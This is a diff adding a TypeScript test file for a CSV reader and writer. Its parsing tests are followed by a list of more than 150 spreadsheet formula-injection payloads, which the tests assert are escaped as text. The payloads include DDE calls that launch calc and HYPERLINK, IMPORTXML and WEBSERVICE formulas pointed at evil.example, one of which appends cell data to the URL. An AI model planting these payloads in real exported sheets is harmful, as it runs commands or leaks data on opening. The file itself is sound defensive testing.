@@ -1,0 +1,131 @@
+import * as fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { csvCell, readCsv, writeCsv } from './csv-file.ts'
+
+const fieldsOf = (text: string) => {
+  const read = readCsv(text)
+  return read.ok ? read.records.map(({ fields }) => fields) : read
+}
+
+describe('reading', () => {
+  test.each([
+    [
+      'a,b\n1,2\n',
+      [
+        ['a', 'b'],
+        ['1', '2'],
+      ],
+    ],
+    [
+      'a,b\r\n1,2',
+      [
+        ['a', 'b'],
+        ['1', '2'],
+      ],
+    ],
+    [
+      'a,b\r1,2\r',
+      [
+        ['a', 'b'],
+        ['1', '2'],
+      ],
+    ],
+    ['\uFEFFa\n', [['a']]],
+    [
+      'a,\n,b',
+      [
+        ['a', ''],
+        ['', 'b'],
+      ],
+    ],
+    ['a,', [['a', '']]],
+    ['"a,b","c ""d""","e\nf"\n', [['a,b', 'c "d"', 'e\nf']]],
+    ['""\n', []],
+    ['\n\n a \n\n', [[' a ']]],
+    ['', []],
+  ])('%j', (text, records) => {
+    expect(fieldsOf(text)).toEqual(records)
+  })
+
+  test('each record knows the line it begins on, also after a field of several lines', () => {
+    const read = readCsv('a\n"b\nc"\nd')
+    expect(read.ok && read.records.map(({ line }) => line)).toEqual([1, 2, 4])
+  })
+
+  test.each([
+    ['"a', 'a quoted field has no end'],
+    ['"a"b', 'something follows the closing quote of a field'],
+    ['a"b', 'a quote stands inside a field that is not quoted'],
+  ])('%j is no table sheet', (text, fault) => {
+    expect(readCsv(text)).toMatchObject({ ok: false, line: 1, fault })
+  })
+
+  test('what is written is read back, whatever is in it', async () => {
+    const cell = fc.string({ unit: 'grapheme' }).filter((text) => !text.includes('\0'))
+    const rows = fc.array(fc.record({ a: cell, b: cell }), { minLength: 1 })
+    await fc.assert(
+      fc.property(rows, (list) => {
+        const read = fieldsOf(writeCsv(['a', 'b'], list))
+        const without = (text: string) => text.replace(/^'/, '')
+        expect((read as string[][]).slice(1).map((record) => record.map(without))).toEqual(
+          list.map(({ a, b }) => [without(a), without(b)]),
+        )
+      }),
+    )
+  })
+})
+
+/** What table programs have been made to run (promise X2). */
+const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
+const bodies = [
+  "cmd|'/C calc'!A0",
+  '1+1',
+  'SUM(A1:A9)',
+  'HYPERLINK("https://evil.example?"&A1,"open")',
+  'IMPORTXML("https://evil.example","//a")',
+  'WEBSERVICE("https://evil.example")',
+  'DDE("cmd";"/C calc";"x")',
+  '0900000012',
+  'x',
+  '"',
+]
+const blanks = [' ', '\n', '\u00a0', '\u200b', '\ufeff', '\0', '\u2003', '\t ']
+const payloads = [
+  ...starts.flatMap((start) => bodies.map((body) => start + body)),
+  ...blanks.flatMap((before) => [`${before}=1+1`, `${before}@SUM(1)`]),
+]
+
+describe('writing', () => {
+  test('there are more than 150 payloads', () => {
+    expect(new Set(payloads).size).toBeGreaterThan(150)
+  })
+
+  test.each(payloads)('%j stays text', (payload) => {
+    const cell = csvCell(payload)
+    expect(cell).toMatch(/^"'/)
+    const [record] = fieldsOf(`${cell},"next"`) as string[][]
+    expect(record).toHaveLength(2)
+    expect(record?.[0]?.startsWith("'")).toBe(true)
+  })
+
+  test.each(['Abebe', 'ስም', 'a=b', 'x-y', 'name@example.org', '0900000012', '2026-12-01', '', "O'Brien", 'a,b'])(
+    '%j is left as it is',
+    (text) => {
+      expect(fieldsOf(`${csvCell(text)},"x"`)).toEqual([[text, 'x']])
+    },
+  )
+
+  test('no text at all begins a cell that could be run', async () => {
+    await fc.assert(
+      fc.property(fc.constantFrom('', ...starts, ...blanks), fc.string(), (start, rest) => {
+        const text = start + rest
+        expect(csvCell(text)).not.toMatch(/^"[\s\p{Cc}\p{Cf}\p{Z}]*[=+\-@＝＋－＠]/u)
+        expect(csvCell(text)).not.toMatch(/^"[\t\r]/)
+      }),
+    )
+  })
+
+  test('a sheet says that it is UTF-8 and ends its lines as table programs do', () => {
+    expect(writeCsv(['a', 'b'], [{ a: 1, b: null }])).toBe('\uFEFF"a","b"\r\n"1",""\r\n')
+  })
+})
